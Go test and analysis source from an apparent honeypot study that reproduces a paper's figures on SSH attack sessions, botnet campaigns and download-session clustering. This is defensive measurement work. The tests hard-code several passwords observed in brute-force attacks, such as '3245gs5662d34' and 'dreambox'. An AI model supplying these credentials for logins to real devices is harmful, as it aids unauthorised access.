	for _, l := range res.Labels {
		if len(l) > 0 {
			labeled++
		}
	}
	if labeled == 0 {
		t.Error("no cluster received a family label")
	}
	// Fig 6 shares are sane.
	for _, m := range res.Fig6(5) {
		sum := 0.0
		for _, s := range m.Shares {
			sum += s
		}
		if sum > 1.0001 {
			t.Fatalf("month %v shares sum to %f", m.Month, sum)
		}
	}
	if res.Fig5Table(5).String() == "" {
		t.Error("fig5 table empty")
	}
}

func TestFig7SankeyShape(t *testing.T) {
	w := testWorld(t)
	f7 := Fig7(w)
	if f7.Total == 0 {
		t.Fatal("no flows")
	}
	// Clients mostly in ISP/NSP; storage mostly Hosting.
	if s := f7.TypeShare(false, "ISP/NSP"); s < 0.5 {
		t.Errorf("client ISP/NSP share = %.2f", s)
	}
	if s := f7.TypeShare(true, "Hosting"); s < 0.6 {
		t.Errorf("storage Hosting share = %.2f", s)
	}
	// Client IP == storage IP is rare (paper: 20% same, 80% different).
	if frac := float64(f7.SameIP) / float64(f7.Total); frac > 0.3 {
		t.Errorf("same-IP share = %.2f, want small", frac)
	}
}

func TestFig8AgeAndSize(t *testing.T) {
	w := testWorld(t)
	rows := Fig8(w)
	tot := Fig8Sum(rows)
	if tot.Sessions == 0 {
		t.Fatal("no download sessions")
	}
	under1 := float64(tot.AgeUnder1y) / float64(tot.Sessions)
	under5 := float64(tot.AgeUnder1y+tot.Age1to5y) / float64(tot.Sessions)
	if under1 < 0.20 || under1 > 0.55 {
		t.Errorf("age<1y = %.2f, want ~0.35", under1)
	}
	if under5 < 0.55 || under5 > 0.90 {
		t.Errorf("age<5y = %.2f, want ~0.70", under5)
	}
	one := float64(tot.SizeOne) / float64(tot.Sessions)
	if one < 0.08 || one > 0.40 {
		t.Errorf("single-/24 = %.2f, want ~0.20", one)
	}
}

func TestFig9RecallWindows(t *testing.T) {
	w := testWorld(t)
	week := Fig9(w, 7)
	if len(week) == 0 {
		t.Fatal("no quarters")
	}
	// One-week recall: ~50% of storage IPs are single-day.
	oneDay, total := 0, 0
	for _, q := range week {
		oneDay += q.CountByBucket[0]
		total += q.Total
	}
	if frac := float64(oneDay) / float64(total); frac < 0.30 || frac > 0.75 {
		t.Errorf("single-day share (1w recall) = %.2f, want ~0.5", frac)
	}
	// Full recall: a substantial fraction reappears after >= 6 months
	// (bucket indexes 8+ are > 0.5y).
	all := Fig9(w, 0)
	if s := LongLivedShare(all, 8); s < 0.08 {
		t.Errorf("IPs spanning > 6 months = %.2f, want noticeable (paper ~25%%)", s)
	}
	// Recall windows bound spans: 1-week recall must have nothing above
	// the <=1w bucket.
	for _, q := range week {
		for i := 3; i < len(Fig9Buckets); i++ {
			if q.CountByBucket[i] > 0 {
				t.Fatalf("1-week recall has span bucket %s", Fig9Buckets[i].Name)
			}
		}
	}
}

func TestFig10TopPasswords(t *testing.T) {
	w := testWorld(t)
	f10 := Fig10(w, 5)
	if len(f10.Top) != 5 {
		t.Fatalf("top = %v", f10.Top)
	}
	if f10.Top[0] != "3245gs5662d34" {
		t.Errorf("top password = %q, want 3245gs5662d34", f10.Top[0])
	}
	set := map[string]bool{}
	for _, p := range f10.Top {
		set[p] = true
	}
	for _, want := range []string{"admin", "1234", "dreambox", "vertex25ektks123"} {
		if !set[want] {
			t.Errorf("top-5 missing %q: %v", want, f10.Top)
		}
	}
	// The TV-box pair is synchronized.
	if c := f10.Correlation("dreambox", "vertex25ektks123"); c < 0.8 {
		t.Errorf("dreambox/vertex correlation = %.2f, want high", c)
	}
	// 3245gs starts only in December 2022.
	for m, n := range f10.Monthly["3245gs5662d34"] {
		if n > 0 && m.Before(month(2022, 12)) {
			t.Errorf("3245gs activity before Dec 2022: %v", m)
		}
	}
}

func TestFig11Fingerprinting(t *testing.T) {
	w := testWorld(t)
	f11 := Fig11(w)
	if f11.PhilSessions == 0 {
		t.Fatal("no phil sessions")
	}
	// >90% of phil logins run no commands.
	if frac := float64(f11.PhilNoCommands) / float64(f11.PhilSessions); frac < 0.9 {
		t.Errorf("phil no-command share = %.2f", frac)
	}
	// Broad, non-repeating sources.
	if f11.PhilUniqueIPs < f11.PhilSessions*8/10 {
		t.Errorf("phil IPs = %d for %d sessions, want mostly unique", f11.PhilUniqueIPs, f11.PhilSessions)
	}
	// richard tries exist but never succeed (they'd show as phil-like
	// successes otherwise).
	richTries := 0
	for _, m := range f11.Months {
		richTries += m.RichardTries
	}
	if richTries == 0 {
		t.Error("no richard probes recorded")
	}
}

func TestFig12DropWindows(t *testing.T) {
	w := testWorld(t)
	rows := Fig12(w)
	byDay := map[time.Time]Fig12Day{}
	for _, r := range rows {
		byDay[r.Day] = r
	}
	normal := byDay[time.Date(2022, 9, 15, 0, 0, 0, 0, time.UTC)].Sessions
	dropped := byDay[time.Date(2022, 10, 12, 0, 0, 0, 0, time.UTC)].Sessions
	if normal == 0 {
		t.Fatal("no baseline mdrfckr sessions")
	}
	if dropped*3 >= normal {
		t.Errorf("drop window not visible: normal=%d dropped=%d", normal, dropped)
	}
}

func TestMdrfckrCaseStudy(t *testing.T) {
	w := testWorld(t)
	cs := Mdrfckr(w, "")
	if cs.Sessions == 0 || cs.UniqueIPs == 0 {
		t.Fatalf("case study empty: %+v", cs)
	}
	// 99.4% IP overlap between the credential attack and the campaign.
	if cs.IPOverlap3245 < 0.9 {
		t.Errorf("IP overlap = %.3f, want ~0.994", cs.IPOverlap3245)
	}
	// The variant is at least several times smaller than the initial.
	init, variant := 0, 0
	for _, v := range cs.InitialMonthly {
		init += v
	}
	for _, v := range cs.VariantMonthly {
		variant += v
	}
	if variant == 0 || variant*4 > init {
		t.Errorf("variant/initial = %d/%d, want order-of-magnitude smaller", variant, init)
	}
	// base64 scripts appear only in drop windows (positive case tested
	// at fine scale in TestDropWindowBase64, since ~100 sessions/day at
	// coarse scale may round to zero).
	if cs.Base64Outside > 0 {
		t.Errorf("base64 sessions outside drop windows: %d", cs.Base64Outside)
	}
	// Variant starts with the 3245gs attack (Dec 2022).
	for m, v := range cs.VariantMonthly {
		if v > 0 && m.Before(month(2022, 12)) {
			t.Errorf("variant active before Dec 2022: %v", m)
		}
	}
}

func TestDropWindowBase64(t *testing.T) {
	// Simulate the October 2022 Sandworm drop window at fine scale: the
	// campaign throttles to ~100 sessions/day and only then uploads
	// base64-encoded scripts.
	res, err := simulate.Run(simulate.Config{
		Scale: 20, Seed: 2,
		Start: time.Date(2022, 10, 5, 0, 0, 0, 0, time.UTC),
		End:   time.Date(2022, 10, 20, 0, 0, 0, 0, time.UTC),
	})
	if err != nil {
		t.Fatal(err)
	}
	w := &World{Store: res.Store, Registry: res.Registry, AbuseDB: res.AbuseDB, Classifier: classify.New()}
	cs := Mdrfckr(w, "")
	if cs.Base64InDrops == 0 {
		t.Error("no base64 sessions inside the drop window")
	}
	if cs.Base64Outside > 0 {
		t.Errorf("base64 sessions outside drop windows: %d", cs.Base64Outside)
	}
}

func TestCurlProxyCampaign(t *testing.T) {
	w := testWorld(t)
	st := CurlProxy(w)
	if st.Sessions == 0 {
		t.Fatal("no curl_maxred sessions")
	}
	if st.ClientIPs > 4 {
		t.Errorf("client IPs = %d, want <= 4", st.ClientIPs)
	}
	if avg := float64(st.CurlRequests) / float64(st.Sessions); avg < 80 || avg > 120 {
		t.Errorf("curls per session = %.1f, want ~100", avg)
	}
	if st.From.Before(month(2024, 1)) || st.To.After(month(2024, 5)) {
		t.Errorf("campaign window = %v..%v, want Jan-Apr 2024", st.From, st.To)
	}
	// At paper scale the campaign reaches 180/221 honeypots; at test
	// scale session count bounds coverage — require a broad spread.
	if st.Honeypots < st.Sessions*2/3 && st.Honeypots < 180 {
		t.Errorf("honeypots = %d for %d sessions, want broad spread", st.Honeypots, st.Sessions)
	}
}

func TestStorageHeadlineStats(t *testing.T) {
	w := testWorld(t)
	st := Storage(w)
	if st.DownloadSessions == 0 {
		t.Fatal("no download sessions")
	}
	// 80% of downloads: storage != client.
	if frac := float64(st.StorageNEQClient) / float64(st.DownloadSessions); frac < 0.7 {
		t.Errorf("storage!=client = %.2f, want ~0.8+", frac)
	}
	// Far more clients than storage IPs (paper: 32k vs 3k; the gap
	// compresses at coarse scales because storage churn is time-driven
	// while client volume scales — see EXPERIMENTS.md).
	if st.UniqueClientIPs*10 < 18*st.UniqueStorageIPs {
		t.Errorf("clients=%d storage=%d, want clients dominant",
			st.UniqueClientIPs, st.UniqueStorageIPs)
	}
	// ~56% of storage IPs reported by feeds.
	if frac := float64(st.StorageIPsReported) / float64(st.UniqueStorageIPs); frac < 0.40 || frac > 0.70 {
		t.Errorf("reported storage IPs = %.2f, want ~0.56", frac)
	}
	// The dedicated storage pool is capped at the paper's 388 ASes;
	// self-hosted drops (client == storage) add client-side ASes on top.
	if st.StorageASes < 100 || st.StorageASes > 1500 {
		t.Errorf("storage ASes = %d", st.StorageASes)
	}
}

func TestFig17HostingDominant(t *testing.T) {
	w := testWorld(t)
	rows := Fig17(w)
	if len(rows) == 0 {
		t.Fatal("no months")
	}
	hostingWins := 0
	for _, r := range rows {
		best, bestN := "", -1
		for typ, n := range r.ByType {
			if n > bestN {
				best, bestN = typ, n
			}
		}
		if best == "Hosting" {
			hostingWins++
		}
	}
	if hostingWins < len(rows)*3/4 {
		t.Errorf("Hosting dominant in %d/%d months", hostingWins, len(rows))
	}
}

func TestFig14CategoryDistances(t *testing.T) {
	w := testWorld(t)
	f14 := Fig14(w, 8)
	if len(f14.Categories) < 10 {
		t.Fatalf("categories = %d", len(f14.Categories))
	}
	idx := map[string]int{}
	for i, c := range f14.Categories {
		idx[c] = i
	}
	// Distances normalized.
	for i := range f14.Categories {
		for j := range f14.Categories {
			d := f14.Mean.At(i, j)
			if d < 0 || d > 1 {
				t.Fatalf("distance out of range: %f", d)
			}
		}
	}
	// The scout block: two uname variants are closer to each other than
	// either is to the mdrfckr campaign.
	ua, ok1 := idx["uname_a"]
	us, ok2 := idx["uname_svnrm"]
	md, ok3 := idx["mdrfckr"]
	if ok1 && ok2 && ok3 {
		if f14.Mean.At(ua, us) >= f14.Mean.At(ua, md) {
			t.Errorf("scout block not separated: d(uname_a,uname_svnrm)=%.2f d(uname_a,mdrfckr)=%.2f",
				f14.Mean.At(ua, us), f14.Mean.At(ua, md))
		}
	}
}

func TestIntrusionPasswordSessions(t *testing.T) {
	w := testWorld(t)
	recs := IntrusionPasswordSessions(w, "3245gs5662d34")
	if len(recs) == 0 {
		t.Fatal("no 3245gs intrusion sessions")
	}
	for _, r := range recs {
		if len(r.Commands) != 0 {
			t.Fatal("intrusion sessions must have no commands")
		}
	}
}

func TestSelectK(t *testing.T) {
	w := testWorld(t)
	sel, err := SelectK(w, []int{2, 5, 10, 20, 40}, 150, 7, ClusterConfig{SampleSize: 300, Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	if len(sel.Points) == 0 {
		t.Fatal("no sweep points")
	}
	// WCSS decreases (weakly) with k.
	for i := 1; i < len(sel.Points); i++ {
		if sel.Points[i].WCSS > sel.Points[i-1].WCSS*1.10 {
			t.Errorf("WCSS rose from k=%d to k=%d", sel.Points[i-1].K, sel.Points[i].K)
		}
	}
	found := false
	for _, p := range sel.Points {
		if p.K == sel.ElbowK {
			found = true
		}
		if p.Silhouette < -1 || p.Silhouette > 1 {
			t.Errorf("silhouette out of range at k=%d: %f", p.K, p.Silhouette)
		}
	}
	if !found {
		t.Errorf("elbow k=%d not among sweep points", sel.ElbowK)
	}
	if sel.Table().String() == "" {
		t.Error("empty table")
	}
	// Invalid k values are rejected.
	if _, err := SelectK(w, []int{0, 1}, 50, 7, ClusterConfig{SampleSize: 300, Seed: 7}); err == nil {
		t.Error("k<2 only should fail")
	}
}

func TestEventCorrelation(t *testing.T) {
	w := testWorld(t)
	rows := EventCorrelation(w)
	if len(rows) != len(EventCalendar) {
		t.Fatalf("rows = %d", len(rows))
	}
	// Every documented event window shows a collapse relative to its
	// baseline (the section 10 correlation).
	for _, r := range rows {
		if r.BaselinePerDay == 0 {
			t.Errorf("%s: no baseline activity", r.Event.Name)
			continue
		}
		if ratio := r.DropRatio(); ratio > 0.5 {
			t.Errorf("%s: inside/baseline = %.2f, want a visible drop", r.Event.Name, ratio)
		}
	}
	if EventsTable(rows).String() == "" {
		t.Error("empty table")
	}
}

// TestAllRenderersProduceTables exercises every Table() path over the
// shared world so format regressions are caught in-package.
func TestAllRenderersProduceTables(t *testing.T) {
	w := testWorld(t)
	tables := []interface{ String() string }{
		Stats(w).Table(),
		Fig1Table(Fig1(w)),
		SharesTable("fig2", Fig2(w), 5),
		SharesTable("fig3a", Fig3a(w), 5),
		SharesTable("fig3b", Fig3b(w), 5),
		Fig7(w).Table(),
		Fig8Table(Fig8(w)),
		Fig9Table("fig9", Fig9(w, 28)),
		Fig10(w, 5).Table(),
		Fig11(w).Table(),
		Fig12Table(Fig12(w)),
		Mdrfckr(w, "").Fig13Table(),
		Mdrfckr(w, "").Table(),
		EventsTable(EventCorrelation(w)),
		Fig16Table(Fig16(w)),
		Fig17Table(Fig17(w)),
		Table1(w).Table(),
		Storage(w).Table(),
		CurlProxy(w).Table(),
	}
	for i, tb := range tables {
		s := tb.String()
		if len(s) < 20 || !strings.Contains(s, "\n") {
			t.Errorf("table %d suspiciously small: %q", i, s)
		}
	}
	// Fig14 and the cluster tables are heavier; render them once too.
	if s := Fig14(w, 4).Table().String(); len(s) < 20 {
		t.Errorf("fig14 table: %q", s)
	}
	res, err := RunClustering(w, ClusterConfig{K: 6, SampleSize: 60, Seed: 2})
	if err != nil {
		t.Fatal(err)
	}
	if s := res.Fig5Table(0).String(); len(s) < 20 {
		t.Errorf("fig5 table: %q", s)
	}
	if s := Fig6Table(res.Fig6(3)).String(); len(s) < 20 {
		t.Errorf("fig6 table: %q", s)
	}
	// CSV rendering is available on every table.
	if csv := Stats(w).Table().CSV(); !strings.Contains(csv, ",") {
		t.Errorf("csv = %q", csv)
	}
}
