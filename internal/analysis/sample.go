package analysis

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"math"
	"math/rand"
	"os"
	"path/filepath"
	"sort"

	"honeynet/internal/cluster"
	"honeynet/internal/session"
	"honeynet/internal/textdist"
)

// DLDSample is the shared expensive core of the section-6 analyses: the
// deduplicated download-session sample, its token streams, and the full
// pairwise normalized token-DLD matrix over it. Both RunClustering and
// SelectK consume one sample, so the quadratic matrix fill happens once
// per (SampleSize, Seed) no matter how many stages run.
type DLDSample struct {
	// Texts are the distinct sampled command texts.
	Texts []string
	// Weight is how many sessions share each text.
	Weight []int
	// Sessions maps each text index to its session records.
	Sessions [][]*session.Record
	// Tokens are the tokenized texts (one shared tokenize pass).
	Tokens [][]string
	// Matrix is the normalized token-DLD distance matrix over Texts.
	Matrix *cluster.Matrix
	// FromCache reports whether Matrix was loaded from the on-disk
	// cache rather than computed.
	FromCache bool
}

// sampleKey identifies the memoized sample; a second request with the
// same key reuses the built sample instead of refilling the matrix.
type sampleKey struct {
	sampleSize int
	seed       int64
	valid      bool
}

// DLDSample returns the shared sample for cfg, building it on first use
// and memoizing it on the World. Only SampleSize and Seed participate in
// the key: K and Workers do not affect the sample or the matrix (the
// fill is worker-count invariant), so a k-sweep and the final clustering
// share one matrix.
func (w *World) DLDSample(cfg ClusterConfig) (*DLDSample, error) {
	cfg = cfg.defaults()
	key := sampleKey{sampleSize: cfg.SampleSize, seed: cfg.Seed, valid: true}
	w.sampleMu.Lock()
	defer w.sampleMu.Unlock()
	if w.sample != nil && w.sampleCfg == key {
		matrixReuse.Add(1)
		dldPairsReused.Add(int64(w.sample.Matrix.N) * int64(w.sample.Matrix.N-1) / 2)
		w.Tracer.Tag("cluster.dld-matrix", "reused", 1)
		return w.sample, nil
	}
	s, err := buildDLDSample(w, cfg)
	if err != nil {
		return nil, err
	}
	w.sample, w.sampleCfg = s, key
	return s, nil
}

// buildDLDSample selects, deduplicates, downsamples, tokenizes, and
// fills (or cache-loads) the distance matrix. Selection and sampling are
// byte-for-byte the pipeline RunClustering always ran, so clustered
// output is unchanged by the shared pass.
func buildDLDSample(w *World, cfg ClusterConfig) (*DLDSample, error) {
	// Section 6 clusters the sessions in which files are loaded onto the
	// honeypot (the ~3M download sessions), not every state change.
	recs := w.Store.Filter(func(r *session.Record) bool {
		return IsSSH(r) && r.Kind() == session.CommandExec && len(r.Downloads) > 0
	})

	// Deduplicate by command text, keeping multiplicity. Obfuscated
	// variants remain distinct texts — that is what DLD absorbs.
	index := map[string]int{}
	s := &DLDSample{}
	for _, r := range recs {
		txt := r.CommandText()
		i, ok := index[txt]
		if !ok {
			i = len(s.Texts)
			index[txt] = i
			s.Texts = append(s.Texts, txt)
			s.Weight = append(s.Weight, 0)
			s.Sessions = append(s.Sessions, nil)
		}
		s.Weight[i]++
		s.Sessions[i] = append(s.Sessions[i], r)
	}
	if len(s.Texts) == 0 {
		return nil, fmt.Errorf("analysis: no file-involving sessions to cluster")
	}

	// Downsample distinct texts if needed (weighted-preserving: drop
	// the rarest texts first after a shuffle for ties).
	if len(s.Texts) > cfg.SampleSize {
		rng := rand.New(rand.NewSource(cfg.Seed))
		order := rng.Perm(len(s.Texts))
		sort.SliceStable(order, func(a, b int) bool {
			return s.Weight[order[a]] > s.Weight[order[b]]
		})
		keep := order[:cfg.SampleSize]
		sort.Ints(keep)
		nt := make([]string, len(keep))
		nw := make([]int, len(keep))
		ns := make([][]*session.Record, len(keep))
		for j, i := range keep {
			nt[j], nw[j], ns[j] = s.Texts[i], s.Weight[i], s.Sessions[i]
		}
		s.Texts, s.Weight, s.Sessions = nt, nw, ns
	}

	sp := w.span("cluster.tokenize")
	s.Tokens = make([][]string, len(s.Texts))
	for i, t := range s.Texts {
		s.Tokens[i] = textdist.Tokenize(t)
	}
	sp.End()

	sp = w.span("cluster.dld-matrix")
	defer sp.End()
	if m, ok := w.loadCachedMatrix(s.Texts); ok {
		s.Matrix, s.FromCache = m, true
		matrixCacheHits.Add(1)
		sp.Tag("cache_hits", 1)
		return s, nil
	}
	if w.MatrixCache != "" {
		matrixCacheMisses.Add(1)
	}
	var st textdist.KernelStats
	s.Matrix, st = fillDLDMatrix(s.Tokens, cfg.Workers)
	addKernelStats(st)
	sp.Tag("pairs", st.Pairs)
	sp.Tag("pairs_trivial", st.Trivial)
	sp.Tag("band_passes", st.BandPasses)
	sp.Tag("cells_dp", st.CellsDP)
	sp.Tag("cells_saved", st.CellsFull-st.CellsDP)
	w.storeCachedMatrix(s.Texts, s.Matrix)
	return s, nil
}

// submatrix extracts the restriction of m to idx (ascending, distinct),
// reusing the already-computed cells instead of re-running the kernel.
func submatrix(m *cluster.Matrix, idx []int) *cluster.Matrix {
	n := len(idx)
	packed := make([]float64, n*(n-1)/2)
	p := 0
	for a := 0; a < n; a++ {
		for b := a + 1; b < n; b++ {
			packed[p] = m.At(idx[a], idx[b])
			p++
		}
	}
	sub, err := cluster.NewMatrixFromPacked(n, packed)
	if err != nil {
		// n and len(packed) are constructed consistently above.
		panic(err)
	}
	return sub
}

// The on-disk matrix cache (hnanalyze -cache DIR). Entries are
// content-addressed: the file name hashes the kernel version and the
// exact sampled texts, so any change to the store, the sampling
// parameters, or the distance kernel changes the key and the stale
// entry is simply never read. Every failure mode is non-fatal — the
// matrix is recomputed — because the cache is an accelerator, not a
// source of truth.
const matrixCacheMagic = "HNDLDM1\n"

// matrixCacheKey hashes the kernel version and the length-prefixed
// texts (length prefixes prevent concatenation collisions).
func matrixCacheKey(texts []string) string {
	h := sha256.New()
	io.WriteString(h, textdist.Version)
	var buf [8]byte
	binary.LittleEndian.PutUint64(buf[:], uint64(len(texts)))
	h.Write(buf[:])
	for _, t := range texts {
		binary.LittleEndian.PutUint64(buf[:], uint64(len(t)))
		h.Write(buf[:])
		io.WriteString(h, t)
	}
	return hex.EncodeToString(h.Sum(nil)[:16])
}

func (w *World) matrixCachePath(texts []string) string {
	return filepath.Join(w.MatrixCache, "dldm-"+matrixCacheKey(texts)+".bin")
}

// loadCachedMatrix reads a cached matrix for texts; any mismatch or read
// failure is a miss.
func (w *World) loadCachedMatrix(texts []string) (*cluster.Matrix, bool) {
	if w.MatrixCache == "" {
		return nil, false
	}
	raw, err := os.ReadFile(w.matrixCachePath(texts))
	if err != nil {
		return nil, false
	}
	n := len(texts)
	cells := n * (n - 1) / 2
	header := len(matrixCacheMagic) + 4
	if len(raw) != header+8*cells ||
		string(raw[:len(matrixCacheMagic)]) != matrixCacheMagic ||
		binary.LittleEndian.Uint32(raw[len(matrixCacheMagic):]) != uint32(n) {
		matrixCacheErrors.Add(1)
		return nil, false
	}
	packed := make([]float64, cells)
	body := raw[header:]
	for i := range packed {
		packed[i] = math.Float64frombits(binary.LittleEndian.Uint64(body[8*i:]))
	}
	m, err := cluster.NewMatrixFromPacked(n, packed)
	if err != nil {
		matrixCacheErrors.Add(1)
		return nil, false
	}
	return m, true
}

// storeCachedMatrix writes the matrix for texts via a unique temp file
// and an atomic rename, so concurrent writers and crashes never leave a
// partial entry under the final name.
func (w *World) storeCachedMatrix(texts []string, m *cluster.Matrix) {
	if w.MatrixCache == "" {
		return
	}
	if err := os.MkdirAll(w.MatrixCache, 0o755); err != nil {
		matrixCacheErrors.Add(1)
		return
	}
	packed := m.Packed()
	buf := make([]byte, len(matrixCacheMagic)+4+8*len(packed))
	copy(buf, matrixCacheMagic)
	binary.LittleEndian.PutUint32(buf[len(matrixCacheMagic):], uint32(m.N))
	body := buf[len(matrixCacheMagic)+4:]
	for i, v := range packed {
		binary.LittleEndian.PutUint64(body[8*i:], math.Float64bits(v))
	}
	tmp, err := os.CreateTemp(w.MatrixCache, "dldm-*.tmp")
	if err != nil {
		matrixCacheErrors.Add(1)
		return
	}
	_, werr := tmp.Write(buf)
	cerr := tmp.Close()
	if werr != nil || cerr != nil {
		matrixCacheErrors.Add(1)
		os.Remove(tmp.Name())
		return
	}
	if err := os.Rename(tmp.Name(), w.matrixCachePath(texts)); err != nil {
		matrixCacheErrors.Add(1)
		os.Remove(tmp.Name())
	}
}
