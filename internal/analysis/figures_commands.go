package analysis

import (
	"sort"
	"time"

	"honeynet/internal/collector"
	"honeynet/internal/parallel"
	"honeynet/internal/report"
	"honeynet/internal/session"
)

// ---------- Dataset statistics (section 3.3) ----------

// DatasetStats reproduces the headline dataset numbers.
type DatasetStats struct {
	Total, SSH, Telnet int
	Scanning           int
	Scouting           int
	Intrusion          int
	CommandExec        int
	UniqueClientIPs    int
}

// Stats computes the section 3.3 table. Total counts every recorded
// session; the four kind counters cover the SSH subset, exactly as the
// paper reports them (546M SSH of 635M total).
func Stats(w *World) *DatasetStats {
	workers := w.workers()
	st := w.Store.StatsN(workers)
	d := &DatasetStats{
		Total: st.Total, SSH: st.SSH, Telnet: st.Telnet,
		UniqueClientIPs: st.UniqueIPs,
	}
	// Kind() re-derives the session kind per record (command/login scans),
	// so shard the pass and merge the four order-invariant counters.
	recs := w.Store.All()
	parts := make([]DatasetStats, parallel.Workers(workers))
	parallel.ForEach(len(recs), workers, 4096, func(wk, lo, hi int) {
		p := &parts[wk]
		for _, r := range recs[lo:hi] {
			if !IsSSH(r) {
				continue
			}
			switch r.Kind() {
			case session.Scanning:
				p.Scanning++
			case session.Scouting:
				p.Scouting++
			case session.Intrusion:
				p.Intrusion++
			case session.CommandExec:
				p.CommandExec++
			}
		}
	})
	for i := range parts {
		d.Scanning += parts[i].Scanning
		d.Scouting += parts[i].Scouting
		d.Intrusion += parts[i].Intrusion
		d.CommandExec += parts[i].CommandExec
	}
	return d
}

// Table renders the stats.
func (d *DatasetStats) Table() *report.Table {
	t := &report.Table{
		Title:   "Dataset statistics (section 3.3)",
		Headers: []string{"metric", "sessions", "share"},
	}
	t.AddRow("total (all protocols)", d.Total, "")
	t.AddRow("ssh", d.SSH, report.Pct(d.SSH, d.Total))
	t.AddRow("telnet", d.Telnet, report.Pct(d.Telnet, d.Total))
	t.AddRow("scanning (ssh)", d.Scanning, report.Pct(d.Scanning, d.SSH))
	t.AddRow("scouting (ssh)", d.Scouting, report.Pct(d.Scouting, d.SSH))
	t.AddRow("intrusion (ssh)", d.Intrusion, report.Pct(d.Intrusion, d.SSH))
	t.AddRow("command-execution (ssh)", d.CommandExec, report.Pct(d.CommandExec, d.SSH))
	t.AddRow("unique client IPs", d.UniqueClientIPs, "")
	return t
}

// ---------- Figure 1: state-changing vs. non-state-changing ----------

// Fig1Month is one month's daily-session distribution for both classes.
type Fig1Month struct {
	Month    time.Time
	Changing DailyDist
	Static   DailyDist
}

// DailyDist summarizes a month's daily session counts (the boxplot).
type DailyDist struct {
	Days                     int
	Total                    int
	Min, Q1, Median, Q3, Max float64
}

func newDailyDist(perDay map[time.Time]int) DailyDist {
	var vals []float64
	total := 0
	for _, v := range perDay {
		vals = append(vals, float64(v))
		total += v
	}
	sort.Float64s(vals)
	d := DailyDist{Days: len(vals), Total: total}
	if len(vals) == 0 {
		return d
	}
	d.Min = vals[0]
	d.Max = vals[len(vals)-1]
	d.Q1 = quantile(vals, 0.25)
	d.Median = quantile(vals, 0.5)
	d.Q3 = quantile(vals, 0.75)
	return d
}

// Fig1 computes, per month, the daily distribution of command sessions
// that change vs. do not change honeypot state.
func Fig1(w *World) []Fig1Month {
	chg := map[time.Time]map[time.Time]int{}
	sta := map[time.Time]map[time.Time]int{}
	for _, r := range CmdExecSessions(w.Store) {
		m := r.Month()
		day := r.Day()
		dst := sta
		if r.StateChanged || HasExec(r) {
			dst = chg
		}
		if dst[m] == nil {
			dst[m] = map[time.Time]int{}
		}
		dst[m][day]++
	}
	months := map[time.Time]bool{}
	for m := range chg {
		months[m] = true
	}
	for m := range sta {
		months[m] = true
	}
	var out []Fig1Month
	for _, m := range collector.SortedMonths(months) {
		out = append(out, Fig1Month{
			Month:    m,
			Changing: newDailyDist(chg[m]),
			Static:   newDailyDist(sta[m]),
		})
	}
	return out
}

// Fig1Table renders Figure 1's series.
func Fig1Table(rows []Fig1Month) *report.Table {
	t := &report.Table{
		Title: "Figure 1: command sessions/day, changing vs not changing state",
		Headers: []string{"month", "chg_total", "chg_median", "chg_q1", "chg_q3",
			"static_total", "static_median", "static_q1", "static_q3"},
	}
	for _, r := range rows {
		t.AddRow(r.Month.Format("2006-01"),
			r.Changing.Total, r.Changing.Median, r.Changing.Q1, r.Changing.Q3,
			r.Static.Total, r.Static.Median, r.Static.Q1, r.Static.Q3)
	}
	return t
}

// ---------- Figures 2, 3a, 3b: bot mixes ----------

// Fig2 classifies non-state-changing command sessions per month.
// Execution attempts count as state-changing actions (the paper's Figure
// 3 covers them), so they are excluded here even when the target file
// was missing.
func Fig2(w *World) *MonthlyCategoryShares {
	recs := w.Store.Filter(func(r *session.Record) bool {
		return IsSSH(r) && r.Kind() == session.CommandExec && !r.StateChanged && !HasExec(r)
	})
	return categorize(w, recs)
}

// Fig3a classifies sessions that add/modify/delete files WITHOUT
// executing them.
func Fig3a(w *World) *MonthlyCategoryShares {
	recs := w.Store.Filter(func(r *session.Record) bool {
		return IsSSH(r) && r.Kind() == session.CommandExec && r.StateChanged && !HasExec(r)
	})
	return categorize(w, recs)
}

// Fig3b classifies sessions that attempt to execute files.
func Fig3b(w *World) *MonthlyCategoryShares {
	recs := w.Store.Filter(func(r *session.Record) bool {
		return IsSSH(r) && r.Kind() == session.CommandExec && HasExec(r)
	})
	return categorize(w, recs)
}

// SharesTable renders a monthly category-share analysis with the top-n
// categories as columns.
func SharesTable(title string, m *MonthlyCategoryShares, topN int) *report.Table {
	cats := m.TopCategories(topN)
	headers := append([]string{"month", "sessions"}, cats...)
	headers = append(headers, "others")
	t := &report.Table{Title: title, Headers: headers}
	for _, month := range m.Months {
		row := []any{month.Format("2006-01"), m.Totals[month]}
		covered := 0.0
		for _, c := range cats {
			s := m.Share(month, c)
			covered += s
			row = append(row, s)
		}
		row = append(row, 1-covered)
		t.AddRow(row...)
	}
	return t
}

// ---------- Figure 4: exec sessions, file exists vs missing ----------

// Fig4Result carries both the per-month counts and the category mixes.
type Fig4Result struct {
	Exists  *MonthlyCategoryShares
	Missing *MonthlyCategoryShares
}

// Fig4 splits execution sessions by whether the executed file was
// present on the honeypot.
func Fig4(w *World) *Fig4Result {
	var exists, missing []*session.Record
	for _, r := range w.Store.All() {
		if !IsSSH(r) || r.Kind() != session.CommandExec || !HasExec(r) {
			continue
		}
		if ExecFileExists(r) {
			exists = append(exists, r)
		} else {
			missing = append(missing, r)
		}
	}
	return &Fig4Result{
		Exists:  categorize(w, exists),
		Missing: categorize(w, missing),
	}
}

// Totals sums sessions across months.
func totalsOf(m *MonthlyCategoryShares) int {
	n := 0
	for _, v := range m.Totals {
		n += v
	}
	return n
}

// ExistsTotal returns total "file exists" sessions.
func (f *Fig4Result) ExistsTotal() int { return totalsOf(f.Exists) }

// MissingTotal returns total "file missing" sessions.
func (f *Fig4Result) MissingTotal() int { return totalsOf(f.Missing) }

// ---------- Figure 16: unique exec commands ----------

// Fig16Month counts distinct command strings per month for exec
// sessions, split by file presence.
type Fig16Month struct {
	Month         time.Time
	UniqueExists  int
	UniqueMissing int
}

// Fig16 computes the unique-command series.
func Fig16(w *World) []Fig16Month {
	exists := map[time.Time]map[string]bool{}
	missing := map[time.Time]map[string]bool{}
	for _, r := range w.Store.All() {
		if !IsSSH(r) || r.Kind() != session.CommandExec || !HasExec(r) {
			continue
		}
		m := r.Month()
		dst := missing
		if ExecFileExists(r) {
			dst = exists
		}
		if dst[m] == nil {
			dst[m] = map[string]bool{}
		}
		dst[m][r.CommandText()] = true
	}
	months := map[time.Time]bool{}
	for m := range exists {
		months[m] = true
	}
	for m := range missing {
		months[m] = true
	}
	var out []Fig16Month
	for _, m := range collector.SortedMonths(months) {
